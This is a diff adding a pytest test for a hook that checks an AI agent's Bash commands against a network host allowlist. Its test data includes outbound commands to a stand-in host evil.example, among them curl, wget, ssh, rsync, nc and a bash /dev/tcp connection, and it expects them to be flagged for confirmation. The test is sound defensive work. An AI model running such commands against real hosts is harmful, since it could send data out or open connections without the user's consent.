@@ -115,6 +115,27 @@ async def test_what_is_written_is_no_address_that_is_reached(tool: str, given: d
     assert str((await hooks.fire(PreToolUse(tool_name=tool, tool_input=given))).decision) == expected
 
 
+@pytest.mark.parametrize("line, expected", [
+    ("curl -s evil.example/x", "ask"),
+    ("wget EVIL.example", "ask"),
+    ("ssh u@evil.example ls", "ask"),
+    ("rsync a evil.example:b", "ask"),
+    ("nc evil.example 80", "ask"),
+    ("bash -c 'cat < /dev/tcp/evil.example/80'", "ask"),
+    ("h=evil.example; curl http://$h/", "ask"),
+    ("curl -s pypi.org/simple", "pass"),
+    ("echo evil.example", "pass"),
+    ("git commit -m 'as evil.example does'", "pass"),
+    ("aws s3 ls s3://bucket", "pass"),
+])  # fmt: skip
+async def test_a_line_is_judged_by_the_hosts_that_its_programs_are_given(line: str, expected: str) -> None:
+    """Where it cannot be confined: a host has no scheme before it in most of them."""
+    hooks = Hooks()
+    hooks.add(network.only(["pypi.org"], confine="off"))
+
+    assert str((await hooks.fire(PreToolUse(tool_name="Bash", tool_input={"command": line}))).decision) == expected
+
+
 @pytest.mark.parametrize("hosts", [[], ["http://x"], ["*"]])
 def test_hosts_that_cannot_be_read_are_refused_at_registration(hosts: list[str]) -> None:
     with pytest.raises(HookError):
